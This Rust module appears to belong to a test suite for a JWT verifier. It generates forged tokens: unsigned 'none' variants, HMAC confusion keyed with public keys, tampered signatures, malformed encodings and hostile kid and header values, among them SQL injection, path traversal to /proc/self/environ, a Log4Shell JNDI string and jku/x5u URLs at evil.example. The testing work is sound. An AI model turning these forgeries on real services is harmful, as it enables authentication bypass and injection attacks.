//! Forgeries of the token's shape: algorithms, key ids, headers, signatures, encodings.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::json;

use super::Attempt;
use super::kit::{Kit, Signer, encoded, field};

pub(super) fn all(kit: &Kit) -> Vec<Attempt> {
    let all = [
        unsigned(kit),
        shared_secrets(kit),
        other_algorithms(kit),
        key_ids(kit),
        headers(kit),
        signatures(kit),
        encodings(kit),
    ];
    all.into_iter().flatten().collect()
}

fn unsigned(kit: &Kit) -> Vec<Attempt> {
    let [_, claims, signature] = field(&kit.good);
    let names = ["none", "None", "NONE", "nOnE", "", "none ", "null"];
    let of = |name: &str| {
        let header = encoded(json!({ "alg": name, "kid": kit.house.kid }).to_string());
        [
            Attempt::token(
                format!("alg {name:?}, unsigned"),
                format!("{header}.{claims}."),
            ),
            Attempt::token(
                format!("alg {name:?}, signed"),
                format!("{header}.{claims}.{signature}"),
            ),
        ]
    };
    names.into_iter().flat_map(of).collect()
}

/// Public keys taken for the secret of a symmetric algorithm, in every writing of them.
fn shared_secrets(kit: &Kit) -> Vec<Attempt> {
    let raw = |signer: &Signer, name: &str| {
        let jwk = signer.public();
        let text = jwk[name].as_str().expect("a text").to_owned();
        (URL_SAFE_NO_PAD.decode(&text).expect("base64url"), text)
    };
    let (modulus, written_modulus) = raw(&kit.rsa, "n");
    let (point, written_point) = raw(&kit.house, "x");
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        STANDARD.encode(&modulus)
    );
    let secrets: [(&str, Vec<u8>); 8] = [
        ("nothing", Vec::new()),
        ("the modulus", modulus),
        ("the modulus as text", written_modulus.into_bytes()),
        ("a PEM", pem.into_bytes()),
        ("the point", point),
        ("the point as text", written_point.into_bytes()),
        ("the JWK", kit.rsa.public().to_string().into_bytes()),
        ("the key set", kit.set.clone().into_bytes()),
    ];
    let claims = encoded(kit.claims().to_string());
    let algorithms = [
        (Algorithm::HS256, &kit.rsa.kid),
        (Algorithm::HS384, &kit.house.kid),
        (Algorithm::HS512, &kit.ec.kid),
    ];
    let of = |(what, secret): (&str, Vec<u8>)| {
        let key = EncodingKey::from_secret(&secret);
        algorithms.map(|(algorithm, kid)| {
            let header = json!({ "alg": format!("{algorithm:?}"), "kid": kid });
            let message = format!("{}.{claims}", encoded(header.to_string()));
            let mac = jsonwebtoken::crypto::sign(message.as_bytes(), &key, algorithm);
            let token = format!("{message}.{}", mac.expect("a code"));
            Attempt::token(format!("{algorithm:?} keyed with {what}"), token)
        })
    };
    secrets.into_iter().flat_map(of).collect()
}

fn other_algorithms(kit: &Kit) -> Vec<Attempt> {
    let named = |algorithm: &str, signer: &Signer| {
        let header = json!({ "alg": algorithm, "kid": signer.kid });
        let token = signer.sign(&header.to_string(), &kit.claims().to_string());
        Attempt::token(format!("{algorithm} with key {}", signer.kid), token)
    };
    vec![
        named("RS256", &kit.house),
        named("ES256", &kit.house),
        named("EdDSA", &kit.ec),
        named("ES384", &kit.ec),
        named("ES512", &kit.ec),
        named("EdDSA", &kit.rsa),
        named("PS256", &kit.rsa),
        named("RS512", &kit.rsa),
        named("ed25519", &kit.house),
    ]
}

fn key_ids(kit: &Kit) -> Vec<Attempt> {
    let own = &kit.house.kid;
    let long = "k".repeat(4_000);
    let kids = [
        "",
        "another",
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "file:///dev/null",
        "https://evil.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'AA' --",
        "${jndi:ldap://evil.example/a}",
        "*",
        "\u{0}",
        &format!("{own} "),
        &format!("{own}\u{0}"),
        &own.to_ascii_uppercase(),
        &long,
    ];
    let unknown = kids.map(|kid| {
        let what: String = format!("kid {kid:?}").chars().take(60).collect();
        Attempt::token(what, kit.with_member("kid", kid.into()))
    });
    let written = [
        format!(r#"{{"alg":"EdDSA","kid":"{own}","kid":"ec"}}"#),
        format!(r#"{{"alg":"EdDSA","kid":["{own}"]}}"#),
        r#"{"alg":"EdDSA","kid":null}"#.to_owned(),
        r#"{"alg":"EdDSA","kid":0}"#.to_owned(),
        r#"{"alg":"EdDSA"}"#.to_owned(),
    ];
    let written = written.map(|header| Attempt::token(header.clone(), kit.with_header(&header)));
    unknown.into_iter().chain(written).collect()
}

fn headers(kit: &Kit) -> Vec<Attempt> {
    let own = &kit.house.kid;
    let mut embedded = kit.stranger.header();
    embedded["jwk"] = kit.stranger.public();
    let embedded = kit
        .stranger
        .sign(&embedded.to_string(), &kit.claims().to_string());
    let asking = [
        ("jku", json!("https://evil.example/keys")),
        ("x5u", json!("https://evil.example/chain")),
        ("x5c", json!(["MIIB"])),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
    ];
    let asking = asking.map(|(name, value)| {
        Attempt::token(format!("{name} {value}"), kit.with_member(name, value))
    });
    let written = [
        format!(r#"{{"alg":"none","alg":"EdDSA","kid":"{own}"}}"#),
        format!(r#"{{"alg":["EdDSA"],"kid":"{own}"}}"#),
        format!(r#"{{"kid":"{own}"}}"#),
        format!(r#"{{"alg":"EdDSA","kid":"{own}"}}{{}}"#),
        format!(r#"["EdDSA","{own}"]"#),
        "{}".to_owned(),
    ];
    let written = written.map(|header| Attempt::token(header.clone(), kit.with_header(&header)));
    let mut nested = kit.house.header();
    nested["cty"] = "JWT".into();
    let whole = [
        Attempt::token("a key of its own", embedded),
        Attempt::token(
            "five parts, as encrypted tokens have",
            format!("{}.AA.AA", kit.good),
        ),
        Attempt::token(
            "a token within a token",
            kit.house.sign(&nested.to_string(), &kit.good),
        ),
    ];
    asking.into_iter().chain(written).chain(whole).collect()
}

fn signatures(kit: &Kit) -> Vec<Attempt> {
    let [header, claims, signature] = field(&kit.good);
    let mut raised = kit.claims();
    raised["sub"] = "00000000-0000-7000-8000-000000000001".into();
    let raised = encoded(raised.to_string());
    let renamed = encoded(format!(r#"{{"kid":"{}","alg":"EdDSA"}}"#, kit.house.kid));
    let other = kit.with_claim("jti", "another".into());
    let [_, _, others] = field(&other);
    let good_claims = kit.claims().to_string();
    let of_ec = kit.ec.sign(&kit.ec.header().to_string(), &good_claims);
    let [ec_header, ec_claims, ec_signature] = field(&of_ec);
    let fixed = URL_SAFE_NO_PAD.decode(ec_signature).expect("base64url");
    let ec = |bytes: &[u8]| format!("{ec_header}.{ec_claims}.{}", encoded(bytes));
    let zeros = encoded([0; 64]);
    vec![
        Attempt::token(
            "a stranger's key under our name",
            kit.stranger
                .sign(&kit.house.header().to_string(), &good_claims),
        ),
        Attempt::token("other claims", format!("{header}.{raised}.{signature}")),
        Attempt::token("another header", format!("{renamed}.{claims}.{signature}")),
        Attempt::token(
            "the signature of another token",
            format!("{header}.{claims}.{others}"),
        ),
        Attempt::token("no signature", format!("{header}.{claims}.")),
        Attempt::token(
            "half a signature",
            format!("{header}.{claims}.{}", &signature[..43]),
        ),
        Attempt::token(
            "the signature backwards",
            format!(
                "{header}.{claims}.{}",
                signature.chars().rev().collect::<String>()
            ),
        ),
        Attempt::token("zeros for EdDSA", format!("{header}.{claims}.{zeros}")),
        Attempt::token("zeros for ECDSA", ec(&[0; 64])),
        Attempt::token("no bytes for ECDSA", ec(&[])),
        Attempt::token("ECDSA in DER", ec(&der(&fixed))),
        Attempt::token("ECDSA with a zero more", ec(&[&fixed[..], &[0]].concat())),
    ]
}

/// An ECDSA signature as certificates write it: a sequence of two whole numbers.
fn der(fixed: &[u8]) -> Vec<u8> {
    let whole = |half: &[u8]| {
        let mut bytes = vec![0x02, 33, 0];
        bytes.extend_from_slice(half);
        bytes
    };
    let body = [whole(&fixed[..32]), whole(&fixed[32..])].concat();
    [&[0x30, u8::try_from(body.len()).expect("short")][..], &body].concat()
}

fn encodings(kit: &Kit) -> Vec<Attempt> {
    let good = &kit.good;
    let [header, claims, signature] = field(good);
    let padded = |part: &str| {
        let bytes = URL_SAFE_NO_PAD.decode(part).expect("base64url");
        URL_SAFE.encode(bytes)
    };
    // The last of a signature's characters carries two bits that must be zero.
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (most, last) = good.split_at(good.len() - 1);
    let next = alphabet.find(last).expect("base64url") + 1;
    let bent = format!("{most}{}", &alphabet[next..=next]);
    let tokens = [
        (
            "a padded signature",
            format!("{header}.{claims}.{}", padded(signature)),
        ),
        ("another writing of the signature", bent),
        ("a byte more", format!("{good}A")),
        ("a dot more", format!("{good}.")),
        ("a fourth part", format!("{good}.{claims}")),
        ("a blank inside", format!("{header} .{claims}.{signature}")),
        ("two parts", format!("{header}.{claims}")),
        ("one part", header.to_owned()),
        ("cut short", good[..good.len() / 2].to_owned()),
        ("quoted", format!("\"{good}\"")),
        ("full-width dots", good.replace('.', "．")),
        ("percent signs", good.replace('.', "%2E")),
        ("no base64", "!!!.???.***".to_owned()),
        ("too long", format!("{good}{}", "A".repeat(9_000))),
    ];
    tokens
        .map(|(what, token)| Attempt::token(what, token))
        .into()
}
